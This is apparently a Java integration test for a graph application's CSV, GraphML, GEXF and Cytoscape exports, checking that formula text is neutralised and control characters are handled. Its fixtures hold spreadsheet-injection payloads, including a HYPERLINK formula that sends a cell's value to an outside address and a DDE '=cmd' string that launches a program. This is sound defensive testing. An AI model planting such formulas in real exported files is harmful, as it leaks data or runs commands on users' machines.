package org.innograph.export;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.innograph.security.ApiTokens;
import org.innograph.security.Role;
import org.innograph.support.IntegrationTest;
import org.innograph.support.TestWrites;
import org.innograph.support.TestDatabase;
import org.jgrapht.Graph;
import org.jgrapht.graph.DefaultEdge;
import org.jgrapht.graph.DirectedPseudograph;
import org.jgrapht.nio.gexf.SimpleGEXFImporter;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.ResourceLock;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.neo4j.core.Neo4jClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exports of hostile text from the running application (issue #14): a name an editor may
 * write that a spreadsheet would run as a formula, and control characters a store may
 * hold from a restore or an older version although edits refuse them now. GraphML and
 * GEXF must stay valid XML, CSV must start no text cell with a formula, and every text
 * must read back as written (or, for what XML cannot hold, with U+FFFD).
 */
// Writes to the shared database. Alone on it.
@ResourceLock(TestDatabase.LOCK)
@IntegrationTest
class ExportTextSafetyIT {

	private static final HttpClient http = HttpClient.newHttpClient();

	private static final JsonMapper JSON = JsonMapper.builder().build();

	private static final String FORMULA = "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"보기\")";

	@LocalServerPort
	int port;

	@Autowired
	Neo4jClient client;

	@Autowired
	ApiTokens tokens;

	private final String run = TestWrites.newRun("it");

	private String id;

	@Autowired
	org.springframework.context.ApplicationContext context;

	@BeforeEach
	void anEntityWrittenByAnEditor() throws InterruptedException {
		// The seed (doc:000, region:daejeon) must be in place; on a busy machine its
		// first load can be retried.
		var store = this.context.getBean("graphStore",
				org.springframework.boot.health.contributor.HealthIndicator.class);
		for (int i = 0; i < 360
				&& !org.springframework.boot.health.contributor.Status.UP.equals(store.health().getStatus()); i++) {
			Thread.sleep(500);
		}
		this.id = "org:" + this.run + "-hostile";
		String token = this.tokens.create(this.run + "-editor", Role.EDITOR);
		Map<String, Object> entity = new LinkedHashMap<>();
		entity.put("id", this.id);
		entity.put("kind", "ORGANIZATION");
		entity.put("name", Map.of("ko", "-1+2 기관", "en", FORMULA));
		entity.put("acronyms", List.of("@SUM(1)", "+82"));
		entity.put("evidence", List.of(Map.of("source", "doc:000", "quote", "②한국항공우주연구원(KARI)", "locator", "L42")));
		Map<String, Object> located = Map.of("type", "LOCATED_IN", "from", this.id, "to", "region:daejeon", "basis",
				"STATED", "evidence",
				List.of(Map.of("source", "doc:000", "quote", "=cmd|' /C calc'!A0", "locator", "L42")));
		String body = JSON.writeValueAsString(Map.of("query",
				"mutation($input: CreateRecordsInput!) { createRecords(input: $input) { entities { id } } }",
				"variables", Map.of("input", Map.of("entities", List.of(entity), "relationships", List.of(located)))));
		HttpResponse<byte[]> response = send(HttpRequest.newBuilder(uri("/graphql"))
			.header("Content-Type", "application/json")
			.header("Authorization", "Bearer " + token)
			.POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8))
			.build());
		assertThat(new String(response.body(), StandardCharsets.UTF_8)).doesNotContain("\"errors\"");
	}

	@AfterEach
	void deleteWhatTheTestWrote() {
		TestWrites.delete(this.client, this.run);
	}

	@Test
	void csvNeutralisesFormulasAndReadsBackExactly() throws IOException {
		HttpResponse<byte[]> response = get("/export/csv?around=" + this.id);
		assertThat(response.statusCode()).isEqualTo(200);
		Map<String, byte[]> files = ExportRoundTripTests.unzip(response.body());
		String nodes = new String(files.get("nodes.csv"), StandardCharsets.UTF_8);
		String edges = new String(files.get("edges.csv"), StandardCharsets.UTF_8);
		// What a spreadsheet sees: each hostile text starts with the quote that makes it
		// text.
		assertThat(nodes).contains("\"'=HYPERLINK(", ",'-1+2 기관,", ",'@SUM(1); +82,");
		assertThat(edges).contains("'=cmd|' /C calc'!A0");
		for (String file : List.of(nodes, edges)) {
			for (String line : file.split("\r\n")) {
				for (String cell : line.split(",")) {
					String text = cell.startsWith("\"") ? cell.substring(1) : cell;
					assertThat(text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0).as(cell + " in " + line)
						.isTrue();
				}
			}
		}
		// What a program reading the file gets, dropping the leading quote as the README
		// says: the text itself.
		Map<String, String> row = ExportRoundTripTests.readCsv(files.get("nodes.csv"))
			.stream()
			.filter((r) -> r.get("id").equals(this.id))
			.findFirst()
			.orElseThrow();
		assertThat(row).containsEntry("nameEn", FORMULA)
			.containsEntry("nameKo", "-1+2 기관")
			.containsEntry("acronyms", "@SUM(1); +82");
	}

	@Test
	void storedControlCharactersLeaveGraphMlAndGexfValidXml() {
		// As a restore of an older store could leave it: edits refuse this name now.
		String stored = "제어\u0000문자\u0001\u001b끝";
		this.client.query("MATCH (n:Entity {id: $id}) SET n.nameEn = $name, n.nameKo = $name")
			.bindAll(Map.of("id", this.id, "name", stored))
			.run();
		String shown = "제어\uFFFD문자\uFFFD\uFFFD끝";

		HttpResponse<byte[]> graphMl = get("/export/graphml?around=" + this.id);
		assertThat(graphMl.statusCode()).isEqualTo(200);
		ExportRoundTripTests.Imported imported = ExportRoundTripTests.importGraphMl(graphMl.body());
		assertThat(imported.nodes().get(this.id)).containsEntry("nameEn", shown).containsEntry("label", shown);

		HttpResponse<byte[]> gexf = get("/export/gexf?around=" + this.id);
		assertThat(gexf.statusCode()).isEqualTo(200);
		Map<String, Map<String, String>> nodes = new HashMap<>();
		SimpleGEXFImporter<String, DefaultEdge> importer = new SimpleGEXFImporter<>();
		importer.setSchemaValidation(true);
		importer.setVertexFactory((vertex) -> vertex);
		importer.addVertexAttributeConsumer(
				(pair, attribute) -> nodes.computeIfAbsent(pair.getFirst(), (vertex) -> new HashMap<>())
					.put(pair.getSecond(), attribute.getValue()));
		Graph<String, DefaultEdge> graph = new DirectedPseudograph<>(DefaultEdge.class);
		importer.importGraph(graph,
				new InputStreamReader(new ByteArrayInputStream(gexf.body()), StandardCharsets.UTF_8));
		assertThat(graph.vertexSet()).contains(this.id, "region:daejeon");
		assertThat(nodes.get(this.id)).containsEntry("nameEn", shown);

		HttpResponse<byte[]> cytoscape = get("/export/cytoscape?around=" + this.id);
		assertThat(cytoscape.statusCode()).isEqualTo(200);
		JsonNode document = JSON.readTree(cytoscape.body());
		boolean found = false;
		for (JsonNode node : document.at("/elements/nodes")) {
			if (node.at("/data/id").asString().equals(this.id)) {
				assertThat(node.at("/data/nameEn").asString()).isEqualTo(shown);
				found = true;
			}
		}
		assertThat(found).isTrue();
	}

	private HttpResponse<byte[]> get(String path) {
		return send(HttpRequest.newBuilder(uri(path)).GET().build());
	}

	private URI uri(String path) {
		return URI.create("http://127.0.0.1:" + this.port + path);
	}

	private static HttpResponse<byte[]> send(HttpRequest request) {
		try {
			return http.send(request, HttpResponse.BodyHandlers.ofByteArray());
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

}
